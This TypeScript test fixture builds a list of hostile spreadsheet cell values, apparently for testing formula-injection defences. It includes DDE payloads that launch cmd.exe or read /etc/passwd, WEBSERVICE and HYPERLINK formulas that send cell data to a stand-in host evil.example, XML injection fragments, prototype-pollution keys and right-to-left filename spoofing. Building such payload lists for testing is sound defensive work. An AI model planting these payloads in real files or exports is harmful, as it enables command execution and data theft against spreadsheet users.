const BEFORE = [
  '',
  ' ',
  '\u00a0',
  '\u3000',
  '\ufeff',
  '\u200b',
  '\u2060',
  '\u00ad',
  '\t',
  '\r',
  '\n',
  '\r\n',
  '\0',
  ' \t',
  '\u2028',
];
const FIRST = ['=', '+', '-', '@', '\uff1d', '\uff0b', '\uff0d', '\uff20'];

/** What a spreadsheet could be made to do by a text that it takes for a formula. */
const CALLS = [
  "=cmd|'/C calc'!A0",
  '=DDE("soffice";"/etc/passwd";"A1")',
  '=HYPERLINK("https://evil.example/?"&A1,"Open")',
  '=WEBSERVICE("https://evil.example/?"&A1)',
  '=IMPORTXML("https://evil.example","//a")',
  "='file:///etc/passwd'#$passwd.A1",
  "=MSEXCEL|'\\..\\..\\Windows\\System32\\cmd.exe'!A1",
  "@SUM(1+1)*cmd|'/C calc'!A0",
  "-2+3+cmd|'/C calc'!A0",
  "+1+cmd|'/C calc'!A0",
  '=1+1";=2+2',
  '{=1+1}',
  '=RTD("a";;"b")',
];

/** What could end the cell that it stands in, or the file around it. */
const SPLITS = [
  '"=1+1"',
  '",=1+1',
  'x",=1+1',
  'x;=1+1',
  "x';=1+1",
  'x\n=1+1',
  'x\r\n=1+1',
  'x\t=1+1',
  '"',
  '""',
  "'",
  "'=1+1",
  'a,b,c',
  '# a comment',
  '\\"=1+1',
];

/** What XML, objects or a reader's eyes could take for something else. */
const OTHERS = [
  ']]>',
  '<f>1+1</f>',
  '</t></is></c><c r="A1"><f>1+1</f></c>',
  '&lt;f&gt;',
  '&#61;1+1',
  '&x;',
  '<!--',
  '<?xml version="1.0"?>',
  '_x003D_1+1',
  '_x000D_',
  '__proto__',
  'constructor',
  'a\u202etxt.exe',
  '\u202e1+1=',
  '\u2066=1+1\u2069',
  'zero\u200bwidth',
  '\u0007\u001b[31m',
  '\ud83d',
  '\ufffe\uffff',
  '  spaces  ',
  'trailing\n\n',
  '👩🏽‍⚕️',
];

/** Hostile texts for a spreadsheet, all different. */
export const FORMULAS: readonly string[] = [
  ...new Set([
    ...BEFORE.flatMap((before) => FIRST.map((first) => `${before}${first}1+1`)),
    ...CALLS,
    ...SPLITS,
    ...OTHERS,
  ]),
];
